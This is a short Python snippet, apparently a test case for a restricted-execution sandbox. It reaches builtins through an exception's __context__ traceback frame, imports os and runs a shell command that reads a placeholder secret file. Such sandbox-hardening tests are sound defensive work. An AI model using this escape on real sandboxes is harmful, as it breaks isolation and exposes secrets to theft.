# An exception's __context__ keeps another exception's traceback.
# effect: run
try:
    try:
        {}["missing"]
    except KeyError:
        int("x")
except ValueError as error:
    error.__context__.__traceback__.tb_frame.f_builtins["__import__"]("os").system("cat @SECRET@")
